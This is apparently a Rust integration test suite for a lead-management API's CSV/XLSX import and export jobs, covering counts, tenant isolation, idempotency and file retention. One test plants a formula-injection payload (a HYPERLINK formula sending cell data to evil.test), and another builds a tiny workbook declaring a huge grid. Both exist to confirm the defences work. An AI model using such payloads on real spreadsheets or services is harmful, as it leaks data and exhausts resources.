//! Lead import and export through the job queue, over HTTP, in both
//! profiles (SQL queue + SQLite; Redis Streams + PostgreSQL).

use crate::helpers::{BOTH, Profile, TestApp, register, spawn_app};
use frontdesk_kernel::files::{Table, TabularCodec, TabularFormat};
use reqwest::Method;
use serde_json::{Value, json};
use std::collections::BTreeSet;

async fn owner(app: &TestApp, domain: &str) -> String {
    let (token, _) = register(app, &format!("owner@{domain}")).await;
    let body = json!({"name": domain, "country": "US"});
    let (status, created) = app.call(&token, Method::POST, "/api/v1/subaccounts", Some(body)).await;
    assert_eq!(status, 201, "{created}");
    created["accessToken"].as_str().unwrap().to_owned()
}

/// 10,000 rows: 37 invalid (no name, or a bad email), 12 repeating an earlier email.
fn ten_thousand_rows() -> String {
    let mut csv = String::from("Name,Email,Phone,Status,Favourite colour\n");
    for i in 0..10_000 {
        if i % 270 == 5 && i / 270 < 37 {
            // 37 invalid rows: alternate a missing name and a bad email.
            if (i / 270) % 2 == 0 {
                csv.push_str(&format!(",missing{i}@import.test,,,\n"));
            } else {
                csv.push_str(&format!("Bad {i},not-an-email,,,\n"));
            }
        } else if i % 800 == 7 && i / 800 < 12 {
            // 12 duplicates of row 1's email, in other cases.
            csv.push_str(&format!("Dup {i},LEAD1@import.test,,,\n"));
        } else {
            csv.push_str(&format!("Lead {i},lead{i}@import.test,,new,blue\n"));
        }
    }
    csv
}

#[tokio::test]
async fn a_ten_thousand_row_csv_imports_with_exact_counts_and_row_errors() {
    for profile in BOTH {
        let app = spawn_app(profile).await;
        let token = owner(&app, "import.test").await;
        let (status, accepted) =
            app.upload(&token, "/api/v1/leads/import", "leads.csv", ten_thousand_rows().as_bytes()).await;
        assert_eq!(status, 202, "{accepted}");
        let job = app.wait_for_job(&token, accepted["jobId"].as_str().unwrap()).await;
        assert_eq!((job["status"].as_str(), job["type"].as_str()), (Some("completed"), Some("leads.import")), "{job}");
        let result = &job["result"];
        assert_eq!(
            (&result["total"], &result["inserted"], &result["duplicates"], &result["invalid"]),
            (&json!(10_000), &json!(9_951), &json!(12), &json!(37)),
            "{result}"
        );
        assert_eq!(job["progress"], json!({"processed": 10_000, "total": 10_000}));
        let errors = result["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 37);
        assert_eq!(errors[0], json!({"row": 7, "field": "name", "message": "is required"}), "row 7 = data row 5");
        assert_eq!(errors[1]["field"], "email");
        let (_, list) = app.call(&token, Method::GET, "/api/v1/leads?limit=1", None).await;
        assert_eq!(list["total"], 9_951);
        let (_, one) = app.call(&token, Method::GET, "/api/v1/leads?q=lead42%40import.test", None).await;
        let lead = &one["data"][0];
        assert_eq!((&lead["source"], &lead["metadata"]), (&json!("import"), &json!({"Favourite colour": "blue"})));
    }
}

#[tokio::test]
async fn xlsx_imports_and_an_export_re_imports_as_the_same_leads() {
    for profile in BOTH {
        let app = spawn_app(profile).await;
        let source = owner(&app, "source.test").await;
        let sheet = Table {
            headers: vec!["name".into(), "phone".into(), "email".into(), "status".into(), "notes".into()],
            rows: vec![
                vec![
                    "Ana Lopez".into(),
                    "(415) 555-2671".into(),
                    "ana@x.test".into(),
                    "qualified".into(),
                    "VIP".into(),
                ],
                vec!["Bob Stone".into(), "+44 20 7946 0958".into(), String::new(), "won".into(), String::new()],
                vec!["No Contact".into(), String::new(), String::new(), String::new(), String::new()],
            ],
        };
        let xlsx = frontdesk_files::SpreadsheetCodec::default().write(TabularFormat::Xlsx, &sheet).unwrap();
        let (status, accepted) = app.upload(&source, "/api/v1/leads/import", "leads.xlsx", &xlsx).await;
        assert_eq!(status, 202, "{accepted}");
        let job = app.wait_for_job(&source, accepted["jobId"].as_str().unwrap()).await;
        assert_eq!((&job["result"]["inserted"], &job["result"]["invalid"]), (&json!(2), &json!(1)), "{job}");
        let (_, ana) = app.call(&source, Method::GET, "/api/v1/leads?q=ana", None).await;
        assert_eq!(ana["data"][0]["phone"], "+14155552671", "national number read in the sub-account's country");

        for format in ["csv", "xlsx"] {
            let (status, accepted) =
                app.call(&source, Method::POST, "/api/v1/leads/export", Some(json!({"format": format}))).await;
            assert_eq!(status, 202, "{accepted}");
            let job_id = accepted["jobId"].as_str().unwrap();
            let job = app.wait_for_job(&source, job_id).await;
            assert_eq!((job["status"].as_str(), &job["result"]["rows"]), (Some("completed"), &json!(2)), "{job}");
            let download = app
                .client
                .get(format!("{}/api/v1/jobs/{job_id}/download", app.address))
                .bearer_auth(&source)
                .send()
                .await
                .unwrap();
            assert_eq!(download.status(), 200);
            let file = download.bytes().await.unwrap();
            // The same file through a link that needs no credentials.
            let (status, link) = app
                .call(&source, Method::GET, &format!("/api/v1/jobs/{job_id}/download-url?expiresIn=300"), None)
                .await;
            assert_eq!(status, 200, "{link}");
            let url = link["url"].as_str().unwrap();
            let local = format!("{}{}", app.address, &url[url.find("/files/download").unwrap()..]);
            let linked = reqwest::get(&local).await.unwrap();
            assert_eq!(linked.status(), 200);
            assert!(linked.headers()["content-disposition"].to_str().unwrap().starts_with("attachment; filename="));
            assert_eq!(linked.bytes().await.unwrap(), file, "{format}: the link serves the export");

            let target = owner(&app, &format!("target-{format}.test")).await;
            let (_, accepted) = app.upload(&target, "/api/v1/leads/import", &format!("export.{format}"), &file).await;
            let job = app.wait_for_job(&target, accepted["jobId"].as_str().unwrap()).await;
            assert_eq!(job["result"]["inserted"], 2, "{job}");
            let leads = |token: String| {
                let app = &app;
                async move {
                    let (_, page) = app.call(&token, Method::GET, "/api/v1/leads", None).await;
                    page["data"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|l| {
                            ["name", "phone", "email", "status", "notes", "metadata"]
                                .map(|k| l[k].to_string())
                                .join("|")
                        })
                        .collect::<BTreeSet<_>>()
                }
            };
            assert_eq!(leads(source.clone()).await, leads(target).await, "{format} round trip");
        }
    }
}

#[tokio::test]
async fn jobs_are_tenant_scoped_and_bad_requests_say_what_to_fix() {
    let app = spawn_app(crate::helpers::Profile::Embedded).await;
    let mine = owner(&app, "mine.test").await;
    let theirs = owner(&app, "theirs.test").await;
    let (_, accepted) = app.call(&mine, Method::POST, "/api/v1/leads/export", Some(json!({}))).await;
    let job_id = accepted["jobId"].as_str().unwrap();
    app.wait_for_job(&mine, job_id).await;
    for path in [
        format!("/api/v1/jobs/{job_id}"),
        format!("/api/v1/jobs/{job_id}/download"),
        format!("/api/v1/jobs/{job_id}/download-url"),
    ] {
        let (status, body) = app.call(&theirs, Method::GET, &path, None).await;
        assert_eq!((status, body["code"].as_str()), (404, Some("not_found")), "{path}");
    }
    assert_eq!(app.call(&mine, Method::GET, "/api/v1/jobs/not-a-uuid", None).await.0, 404);

    let (status, err) = app.upload(&mine, "/api/v1/leads/import", "leads.pdf", b"%PDF").await;
    assert_eq!((status, err["message"][0].as_str()), (400, Some("file: must be a .csv or .xlsx file")));
    let (status, err) = app.upload(&mine, "/api/v1/leads/import", "leads.csv", b"").await;
    assert_eq!((status, err["message"][0].as_str()), (400, Some("file: is empty")));
    let (status, err) = app
        .call(&mine, Method::POST, "/api/v1/leads/export", Some(json!({"format": "pdf", "filter": {"status": "open"}})))
        .await;
    assert_eq!(status, 400);
    assert_eq!(
        err["message"],
        json!([
            "format: must be csv or xlsx",
            "filter.status: unknown status \"open\"; expected new, contacted, qualified, booked, won, lost"
        ]),
        "{err}"
    );

    // Only a body of zero bytes means "everything as CSV": whitespace is not JSON.
    let (status, err) = app.post_bytes(&mine, "/api/v1/leads/export", "application/json", b" ").await;
    assert_eq!((status, err["code"].as_str()), (400, Some("malformed_json")), "{err}");

    // A file without a name column: the job fails permanently, saying why.
    let (_, accepted) = app.upload(&mine, "/api/v1/leads/import", "x.csv", b"email\na@b.test\n").await;
    let job = app.wait_for_job(&mine, accepted["jobId"].as_str().unwrap()).await;
    assert_eq!((job["status"].as_str(), job["attempts"].as_u64()), (Some("dead"), Some(1)), "{job}");
    assert!(job["error"].as_str().unwrap().contains("no `name` column"), "{job}");

    // The same Idempotency-Key twice: one job.
    let export = |key: &'static str| {
        let app = &app;
        let mine = mine.clone();
        async move {
            let response = app
                .client
                .post(format!("{}/api/v1/leads/export", app.address))
                .bearer_auth(&mine)
                .header("idempotency-key", key)
                .json(&json!({}))
                .send()
                .await
                .unwrap();
            response.json::<Value>().await.unwrap()["jobId"].clone()
        }
    };
    assert_eq!(export("export-1").await, export("export-1").await);
}

crate::per_profile!(
    a_workbook_spanning_the_whole_grid_is_dead_with_a_clear_error_and_nothing_else_is_harmed,
    expired_exports_answer_410_and_a_deleted_sub_account_leaves_no_files_or_cache_keys,
);

/// The workbook from the hardening issue: a few KB whose only cells are A1
/// and XFD1048576, so its sheet spans 16,384 × 1,048,576 cells.
fn whole_grid_workbook() -> Vec<u8> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.write_string(0, 0, "name").unwrap();
    sheet.write_string(1_048_575, 16_383, "boom").unwrap();
    workbook.save_to_buffer().unwrap()
}

async fn a_workbook_spanning_the_whole_grid_is_dead_with_a_clear_error_and_nothing_else_is_harmed(profile: Profile) {
    let app = spawn_app(profile).await;
    let token = owner(&app, "grid.test").await;
    let workbook = whole_grid_workbook();
    assert!(workbook.len() < 10_000, "tiny on the wire: {} bytes", workbook.len());
    let (status, accepted) = app.upload(&token, "/api/v1/leads/import", "grid.xlsx", &workbook).await;
    assert_eq!(status, 202, "{accepted}");
    let job = app.wait_for_job(&token, accepted["jobId"].as_str().unwrap()).await;
    assert_eq!((job["status"].as_str(), job["attempts"].as_u64()), (Some("dead"), Some(1)), "{job}");
    let error = job["error"].as_str().unwrap();
    assert!(error.contains("too large") && error.contains("1048576 rows × 16384 columns"), "{error}");

    // The process is alive and its worker still runs jobs.
    assert_eq!(app.get("/health/live").await.status(), 200);
    let (_, accepted) = app.upload(&token, "/api/v1/leads/import", "ok.csv", b"name,email\nAna,ana@grid.test\n").await;
    let job = app.wait_for_job(&token, accepted["jobId"].as_str().unwrap()).await;
    assert_eq!((job["status"].as_str(), &job["result"]["inserted"]), (Some("completed"), &json!(1)), "{job}");
    assert_eq!(app.stored_files("imports"), Vec::<String>::new(), "uploads are deleted once their import ends");
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_and_still_re_import_as_the_same_leads() {
    let app = spawn_app(crate::helpers::Profile::Embedded).await;
    let source = owner(&app, "formula.test").await;
    let hostile = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")";
    for lead in [
        json!({"name": hostile, "phone": "+14155552671"}),
        json!({"name": "@SUM(1+1)", "email": "at@formula.test", "notes": "-2+3"}),
        json!({"name": "+Plain Name", "email": "plain@formula.test", "notes": "\tindented"}),
    ] {
        let (status, body) = app.call(&source, Method::POST, "/api/v1/leads", Some(lead)).await;
        assert_eq!(status, 201, "{body}");
    }
    let (_, accepted) = app.call(&source, Method::POST, "/api/v1/leads/export", Some(json!({"format": "csv"}))).await;
    let job_id = accepted["jobId"].as_str().unwrap();
    app.wait_for_job(&source, job_id).await;
    let download = app
        .client
        .get(format!("{}/api/v1/jobs/{job_id}/download", app.address))
        .bearer_auth(&source)
        .send()
        .await
        .unwrap();
    assert_eq!(download.status(), 200);
    let file = download.bytes().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(file.as_ref());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c == &format!("'{hostile}")), "the formula is written as text: {cells:?}");
    assert!(cells.iter().any(|c| c == "'+14155552671"), "{cells:?}");
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula in the export: {cell:?}");
    }

    let target = owner(&app, "formula-copy.test").await;
    let (_, accepted) = app.upload(&target, "/api/v1/leads/import", "export.csv", &file).await;
    let job = app.wait_for_job(&target, accepted["jobId"].as_str().unwrap()).await;
    assert_eq!(job["result"]["inserted"], 3, "{job}");
    let leads = |token: String| {
        let app = &app;
        async move {
            let (_, page) = app.call(&token, Method::GET, "/api/v1/leads", None).await;
            page["data"]
                .as_array()
                .unwrap()
                .iter()
                .map(|l| ["name", "phone", "email", "notes"].map(|k| l[k].to_string()).join("|"))
                .collect::<BTreeSet<_>>()
        }
    };
    assert_eq!(leads(source.clone()).await, leads(target).await, "the same leads after the round trip");
}

/// The download's status and, for an error, its JSON body.
async fn download_status(app: &TestApp, token: &str, job_id: &str) -> (u16, Value) {
    let url = format!("{}/api/v1/jobs/{job_id}/download", app.address);
    let response = app.client.get(url).bearer_auth(token).send().await.unwrap();
    let status = response.status().as_u16();
    (status, if status == 200 { Value::Null } else { response.json().await.unwrap() })
}

async fn export(app: &TestApp, token: &str) -> String {
    let (_, accepted) = app.call(token, Method::POST, "/api/v1/leads/export", Some(json!({}))).await;
    let job_id = accepted["jobId"].as_str().unwrap().to_owned();
    assert_eq!(app.wait_for_job(token, &job_id).await["status"], "completed");
    job_id
}

async fn expired_exports_answer_410_and_a_deleted_sub_account_leaves_no_files_or_cache_keys(profile: Profile) {
    let app = spawn_app(profile).await;
    let (user, _) = register(&app, "owner@retention.test").await;
    let (status, created) =
        app.call(&user, Method::POST, "/api/v1/subaccounts", Some(json!({"name": "Retention", "country": "US"}))).await;
    assert_eq!(status, 201, "{created}");
    let token = created["accessToken"].as_str().unwrap().to_owned();
    let tenant = created["subAccount"]["id"].as_str().unwrap().to_owned();
    let (_, lead) = app
        .call(&token, Method::POST, "/api/v1/leads", Some(json!({"name": "Ana", "email": "ana@retention.test"})))
        .await;
    let (status, _) =
        app.call(&token, Method::GET, &format!("/api/v1/leads/{}", lead["id"].as_str().unwrap()), None).await;
    assert_eq!(status, 200, "read once, so it is cached");

    // An export past its time: the purge deletes it and the download says so.
    let expired = export(&app, &token).await;
    assert_eq!(download_status(&app, &token, &expired).await.0, 200);
    let files = frontdesk_files::LocalFileStorage::new(app.files_dir());
    let later = chrono::Utc::now() + chrono::Duration::seconds(1);
    let purged = frontdesk_runtime::maintenance::purge_expired_files(&files, std::time::Duration::ZERO, later);
    assert_eq!(purged.await.unwrap(), 1);
    let (status, body) = download_status(&app, &token, &expired).await;
    assert_eq!((status, body["code"].as_str()), (410, Some("gone")), "{body}");
    assert!(body["message"].as_str().unwrap().contains("expired"), "{body}");

    // A fresh export, then the sub-account goes: its files and cache keys go with it.
    export(&app, &token).await;
    assert_eq!(app.stored_files(&format!("exports/{tenant}")).len(), 1);
    let pattern = format!("lead:{tenant}:*");
    if app.redis_prefix.is_some() {
        assert_eq!(app.redis_keys(&pattern).await, 1, "the lead is in the Redis cache");
    }
    let (status, body) = app.call(&token, Method::DELETE, &format!("/api/v1/subaccounts/{tenant}"), None).await;
    assert_eq!(status, 204, "{body}");
    assert_eq!(app.stored_files(&format!("exports/{tenant}")), Vec::<String>::new());
    assert_eq!(app.stored_files(&format!("imports/{tenant}")), Vec::<String>::new());
    assert_eq!(app.redis_keys(&pattern).await, 0, "no cache keys of the deleted sub-account");
}
